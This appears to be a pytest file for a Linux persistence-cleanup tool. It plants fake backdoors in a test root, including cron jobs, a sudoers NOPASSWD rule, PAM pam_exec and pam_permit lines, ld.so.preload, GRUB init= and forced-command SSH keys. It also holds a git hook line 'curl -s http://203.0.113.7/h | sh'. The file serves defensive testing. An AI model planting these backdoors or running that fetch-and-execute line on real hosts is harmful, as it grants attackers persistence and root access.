"""Awkward hosts: exactly what is meant changes, verify agrees, undo gives the identical root back; or nothing changes, with a reason."""

from __future__ import annotations

import os
import stat
import subprocess
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.conftest import need
from tests.hunter.conftest import manifest
from tests.hunter.driver import hunt
from tests.hunter.test_accounts import PASSWD, SHADOW, _Root

Bytes = str | bytes
UNIT = "[Service]\nExecStart=/tmp/x\n[Install]\nWantedBy=multi-user.target\nAlias=dbus-x.service\n"
RULE = 'ACTION=="add", \\\n  RUN+="/tmp/x"\nSUBSYSTEM=="net", NAME="a"\n'
GOOD = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIgood good@site"
EVIL = 'command="/tmp/x",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIevil a@b'
CAPABILITY = bytes.fromhex("0100000280000000000000000000000000000000")
LATIN = os.fsdecode(b"var/tmp/x\xff")
DROPINS = [f"{top}/systemd/system/x.service.d/{n}.conf" for n, top in enumerate(("etc", "run", "usr/lib"))]
STACK = (
    "auth [success=2 default=ignore] pam_unix.so\nauth optional pam_exec.so /tmp/x\n"
    "auth requisite pam_deny.so\nauth required pam_permit.so\n"
)


@dataclass(frozen=True)
class Situation:
    """`left`: path → content afterwards; `gone`: paths; `refused`: words of the reason, where nothing may change."""

    files: dict[str, Bytes]
    targets: list[tuple[str, ...]]
    left: dict[str, Bytes] = field(default_factory=dict)
    gone: tuple[str, ...] = ()
    refused: str = ""
    also: Callable[[Path], object] = lambda root: None


def line(path: str, text: str, *more: str) -> tuple[str, ...]:
    return path, "--line", text, *more


def linked(at: str, to: str) -> Callable[[Path], None]:
    def make(root: Path) -> None:
        (root / at).parent.mkdir(parents=True, exist_ok=True)
        (root / at).symlink_to(to)

    return make


def aliases(root: Path) -> None:
    linked("etc/systemd/system/multi-user.target.wants/x.service", "/etc/systemd/system/x.service")(root)
    linked("etc/systemd/system/dbus-x.service", "/etc/systemd/system/x.service")(root)


def special(root: Path) -> None:
    at = root / "usr/local/bin/x"
    os.chown(at, 65534, 12)
    at.chmod(0o6711)
    os.setxattr(at, "security.capability", CAPABILITY)
    os.setxattr(at, "user.big", b"z" * 3000)


def of_somebody(root: Path) -> None:
    at = root / "var/spool/cron/crontabs/ghost"
    os.chown(at, 4242, 4242)
    at.chmod(0o600)


RC = "etc/rc.local"
SITUATIONS = {
    "a last line without its end": Situation({RC: "#!/bin/sh\n/tmp/x &"}, [line("/etc/rc.local", "/tmp/x &")], {RC: "#!/bin/sh\n"}),
    "line ends of Windows": Situation(
        {RC: "#!/bin/sh\r\n/tmp/x &\r\nexit 0"}, [line("/etc/rc.local", "/tmp/x &")], {RC: "#!/bin/sh\r\nexit 0"}
    ),
    "a byte order mark": Situation({RC: "\ufeff#!/bin/sh\n/tmp/x\n"}, [line("/etc/rc.local", "/tmp/x")], {RC: "\ufeff#!/bin/sh\n"}),
    "a block and what is in it": Situation(
        {RC: "#!/bin/sh\nif /tmp/x; then\n  /tmp/y\nfi\nexit 0\n"},
        [line("/etc/rc.local", "if /tmp/x; then"), line("/etc/rc.local", "  /tmp/y")],
        {RC: "#!/bin/sh\nif false; then\n  :\nfi\nexit 0\n"},
    ),
    "two lines that are all of a block": Situation(
        {"etc/profile": "if true; then\n  /tmp/x\n  /tmp/y\nfi\n"},
        [line("/etc/profile", "  /tmp/x"), line("/etc/profile", "  /tmp/y")],
        {"etc/profile": "if true; then\n  :\nfi\n"},
    ),
    "the bare end of a block": Situation(
        {RC: "#!/bin/sh\nif true; then\n:\nfi\n"}, [line("/etc/rc.local", "fi")], refused="only ends a block"
    ),
    "a rule of udev in two lines": Situation(
        {"etc/udev/rules.d/9.rules": RULE},
        [line("/etc/udev/rules.d/9.rules", 'ACTION=="add", \\')],
        {"etc/udev/rules.d/9.rules": 'SUBSYSTEM=="net", NAME="a"\n'},
    ),
    "the end of a rule of udev": Situation(
        {"etc/udev/rules.d/9.rules": RULE},
        [line("/etc/udev/rules.d/9.rules", '  RUN+="/tmp/x"')],
        {"etc/udev/rules.d/9.rules": 'ACTION=="add", \\\n\nSUBSYSTEM=="net", NAME="a"\n'},
    ),
    "a crontab of nobody": Situation(
        {"var/spool/cron/crontabs/ghost": 'MAILTO=""\n* * * * * /tmp/x\n'},
        [line("/var/spool/cron/crontabs/ghost", "* * * * * /tmp/x")],
        {"var/spool/cron/crontabs/ghost": 'MAILTO=""\n'},
        also=of_somebody,
    ),
    "both of two equal lines": Situation(
        {"etc/crontab": "a\n* * * * * root /tmp/x\n* * * * * root /tmp/x\nb\n"},
        [line("/etc/crontab", "* * * * * root /tmp/x", "--number", n) for n in ("2", "3")],
        {"etc/crontab": "a\nb\n"},
    ),
    "a twin in other letters": Situation(
        {"etc/cron.d/x": "* * * * * root /tmp/x\n* * * * * root /TMP/x\n"},
        [line("/etc/cron.d/x", "* * * * * root /TMP/x")],
        {"etc/cron.d/x": "* * * * * root /tmp/x\n"},
    ),
    "a NUL in a line": Situation(
        {"etc/cron.d/x": "a\n* * * * * root /tmp/x\0y\nb\n"},
        [line("/etc/cron.d/x", "* * * * * root /tmp/x\0y")],
        {"etc/cron.d/x": "a\nb\n"},
    ),
    "a key with options among line ends of Windows": Situation(
        {"root/.ssh/authorized_keys": f"{GOOD}\r\n{EVIL}\r\n"},
        [line("/root/.ssh/authorized_keys", EVIL)],
        {"root/.ssh/authorized_keys": f"{GOOD}\r\n"},
    ),
    "separators of every kind": Situation(
        {"etc/ld.so.preload": "/a.so:/b.so /tmp/x.so\t/c.so\n#/tmp/x.so\n"},
        [("/etc/ld.so.preload", "--element", "/tmp/x.so")],
        {"etc/ld.so.preload": "/a.so:/b.so /c.so\n#/tmp/x.so\n"},
    ),
    "a library whose name begins like another": Situation(
        {"etc/ld.so.preload": "/tmp/x.so.1:/tmp/x.so"},
        [("/etc/ld.so.preload", "--element", "/tmp/x.so")],
        {"etc/ld.so.preload": "/tmp/x.so.1"},
    ),
    "the only library": Situation(
        {"etc/ld.so.preload": "/tmp/x.so"}, [("/etc/ld.so.preload", "--element", "/tmp/x.so")], gone=("etc/ld.so.preload",)
    ),
    "one parameter twice": Situation(
        {"etc/default/grub": 'GRUB_CMDLINE_LINUX="quiet init=/tmp/x init=/tmp/x"\n'},
        [("/etc/default/grub", "--element", "init=/tmp/x")],
        {"etc/default/grub": 'GRUB_CMDLINE_LINUX="quiet "\n'},
    ),
    "a folder that sudoers includes twice": Situation(
        {
            "etc/sudoers": "root ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n#includedir /etc/sudoers.d\n",
            "etc/sudoers.d/z": "evil ALL=(ALL) NOPASSWD: ALL\n",
        },
        [line("/etc/sudoers.d/z", "evil ALL=(ALL) NOPASSWD: ALL")],
        {"etc/sudoers.d/z": ""},
        also=lambda root: (root / "etc/sudoers.d/z").chmod(0o440),
    ),
    "a rule of sudo in two lines": Situation(
        {"etc/sudoers": "root ALL=(ALL:ALL) ALL\nevil ALL=(ALL) \\\n NOPASSWD: ALL\n"},
        [line("/etc/sudoers", "evil ALL=(ALL) \\")],
        refused="goes on in the next line",
    ),
    "PAM with an include": Situation(
        {"etc/pam.d/sshd": "auth sufficient pam_permit.so\n@include common-auth\n", "etc/pam.d/common-auth": "auth required pam_unix.so\n"},
        [line("/etc/pam.d/sshd", "auth sufficient pam_permit.so")],
        {"etc/pam.d/sshd": "@include common-auth\n"},
    ),
    "PAM with a jump over more than that": Situation(
        {"etc/pam.d/common-auth": STACK},
        [line("/etc/pam.d/common-auth", "auth optional pam_exec.so /tmp/x")],
        {"etc/pam.d/common-auth": STACK.replace("=2", "=1").replace("auth optional pam_exec.so /tmp/x\n", "")},
    ),
    "PAM with a jump over that alone": Situation(
        {"etc/pam.d/common-auth": STACK.replace("=2", "=1")},
        [line("/etc/pam.d/common-auth", "auth optional pam_exec.so /tmp/x")],
        refused="jumps over it",
    ),
    "a hook of git in a project": Situation(
        {"srv/site/.git/hooks/post-merge": "#!/bin/sh\nmake\ncurl -s http://203.0.113.7/h | sh\n"},
        [line("/srv/site/.git/hooks/post-merge", "curl -s http://203.0.113.7/h | sh")],
        {"srv/site/.git/hooks/post-merge": "#!/bin/sh\nmake\n"},
    ),
    "a unit with drop-ins in three folders and two names": Situation(
        {"etc/systemd/system/x.service": UNIT, "usr/lib/systemd/system/good.service": UNIT} | dict.fromkeys(DROPINS, "[Service]\n"),
        [("unit:x.service",)],
        gone=(
            *("etc/systemd/system/x.service", "etc/systemd/system/dbus-x.service"),
            *("etc/systemd/system/multi-user.target.wants/x.service", *DROPINS),
        ),
        also=aliases,
    ),
    "a drop-in of a good unit": Situation(
        {"usr/lib/systemd/system/nginx.service": UNIT, "etc/systemd/system/nginx.service.d/o.conf": "[Service]\n"},
        [("/etc/systemd/system/nginx.service.d/o.conf",)],
        gone=("etc/systemd/system/nginx.service.d/o.conf",),
    ),
    "a unit that is a link to elsewhere": Situation(
        {"opt/x.service": UNIT},
        [("unit:y.service",)],
        gone=("etc/systemd/system/y.service",),
        also=linked("etc/systemd/system/y.service", "/opt/x.service"),
    ),
    "a unit of a user": Situation(
        {"home/paul/.config/systemd/user/x.service": UNIT},
        [("/home/paul/.config/systemd/user/x.service",)],
        gone=("home/paul/.config/systemd/user/x.service", "home/paul/.config/systemd/user/default.target.wants/x.service"),
        also=linked("home/paul/.config/systemd/user/default.target.wants/x.service", "../x.service"),
    ),
    "a folder that is a link": Situation(
        {"usr/lib/systemd/system/x.service": UNIT},
        [("/lib/systemd/system/x.service",)],
        refused="name the real path",
        also=linked("lib", "usr/lib"),
    ),
    "a link itself": Situation({"var/tmp/real": "x"}, [("/var/tmp/x",)], gone=("var/tmp/x",), also=linked("var/tmp/x", "real")),
    "a link out of the root": Situation({}, [("/var/tmp/x",)], gone=("var/tmp/x",), also=linked("var/tmp/x", "../../../../etc/passwd")),
    "two names of one file": Situation(
        {"var/tmp/x": "x"}, [("/var/tmp/x",)], refused="hard links", also=lambda root: os.link(root / "var/tmp/x", root / "var/tmp/y")
    ),
    "a pipe": Situation({"var/tmp/y": ""}, [("/var/tmp/x",)], refused="is a pipe", also=lambda root: os.mkfifo(root / "var/tmp/x")),
    "a folder": Situation({"var/tmp/d/x": "x"}, [("/var/tmp/d",)], refused="is a directory"),
    "a folder with the group of its own": Situation(
        {"srv/www/x.php": "x"},
        [("/srv/www/x.php",)],
        gone=("srv/www/x.php",),
        also=lambda root: (os.chown(root / "srv/www", 0, 33), (root / "srv/www").chmod(0o2775)),
    ),
    "the sticky folder of all": Situation(
        {"tmp/x": "x"},
        [("/tmp/x",)],
        gone=("tmp/x",),
        also=lambda root: ((root / "tmp").chmod(0o1777), os.chown(root / "tmp/x", 1000, 1000)),
    ),
    "every bit and attribute": Situation({"usr/local/bin/x": "x"}, [("/usr/local/bin/x",)], gone=("usr/local/bin/x",), also=special),
    "a blank behind a name": Situation({"var/tmp/x ": "x", "var/tmp/x": "y"}, [("/var/tmp/x ",)], gone=("var/tmp/x ",)),
    "a line end in a name": Situation({"var/tmp/x\ny": "x"}, [("/var/tmp/x\ny",)], gone=("var/tmp/x\ny",)),
    "a name that is no UTF-8": Situation({LATIN: "x"}, [(f"/{LATIN}",)], gone=(LATIN,)),
    "a pattern for a name": Situation({"var/tmp/x*": "x", "var/tmp/xy": "x"}, [("/var/tmp/x*",)], refused="a pattern is no target"),
    "two dots in a path": Situation({"var/tmp/x": "x"}, [("/var/tmp/../tmp/x",)], refused="component in the path"),
    "a file with holes": Situation(
        {"var/tmp/x": ""}, [("/var/tmp/x",)], gone=("var/tmp/x",), also=lambda root: os.truncate(root / "var/tmp/x", 8 << 20)
    ),
    "a module to load": Situation(
        {"etc/modules-load.d/x.conf": "good\nevil\n"}, [line("/etc/modules-load.d/x.conf", "evil")], {"etc/modules-load.d/x.conf": "good\n"}
    ),
    "a module of the boot": Situation({"etc/modules": "good\nevil\n"}, [line("/etc/modules", "evil")], {"etc/modules": "good\n"}),
    "a line and its whole file": Situation(
        {"etc/cron.d/x": "* * * * * root /tmp/x\n"},
        [line("/etc/cron.d/x", "* * * * * root /tmp/x"), ("/etc/cron.d/x",)],
        refused="changes a part of it already",
    ),
}


@pytest.mark.parametrize("name", SITUATIONS)
def test_only_what_is_meant_changes_and_comes_back(name, tmp_path) -> None:
    need(os.name == "posix" and os.geteuid() == 0, "a Linux root account")
    it = SITUATIONS[name]
    host = _Root(tmp_path, {"etc/machine-id": f"{0:032}\n", "etc/passwd": PASSWD, "etc/shadow": SHADOW})
    for path, content in it.files.items():
        at = host.root / path
        at.parent.mkdir(parents=True, exist_ok=True)
        at.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    it.also(host.root)
    for n, at in enumerate(sorted(host.root.rglob("*"))):
        os.utime(at, ns=(1_600_000_000_000_000_000 + n, 1_600_000_000_123_456_000 + n), follow_symlinks=False)
    before, told = manifest(host.root), ""
    for target in it.targets:
        new = () if host.plan.exists() else ("-r", host.key)
        code, out, err = hunt("add", host.plan, *target, "--root", host.root, *new)
        told += "".join((out + err).split("\n")) if code else ""
    assert (it.refused in told, bool(told)) == (True, bool(it.refused)), told
    assert manifest(host.root) == before
    if it.refused:
        return
    code, told = host.run("apply", "--yes")
    assert code == 0, told
    after = manifest(host.root)
    changed = {path for path in before.keys() | after.keys() if before.get(path) != after.get(path)}
    assert {path for path in changed if not stat.S_ISDIR((before.get(path) or after[path])[0])} == {*it.left, *it.gone}
    assert {path: after[path][6].decode() for path in it.left} == it.left
    assert not [path for path in it.gone if path in after]
    code, told = host.run("verify")
    assert code == 0, told
    code, told = host.run("undo")
    assert code == 0, told
    assert manifest(host.root) == before


def test_a_bind_mount_over_the_target_is_seen_and_nothing_is_written(tmp_path) -> None:
    need(os.name == "posix" and os.geteuid() == 0, "a Linux root account")
    host = _Root(tmp_path, {"var/tmp/x": "below", "var/tmp/over": "above"})
    assert hunt("add", host.plan, "/var/tmp/x", "--root", host.root, "-r", host.key)[0] == 0
    over, under = str(host.root / "var/tmp/over"), str(host.root / "var/tmp/x")
    need(subprocess.run(["mount", "--bind", over, under], capture_output=True, check=False).returncode == 0, "mounts")
    try:
        assert host.run("apply", "--yes")[0] == 3
    finally:
        subprocess.run(["umount", under], check=True)
    assert (host.text("var/tmp/x"), host.text("var/tmp/over")) == ("below", "above")
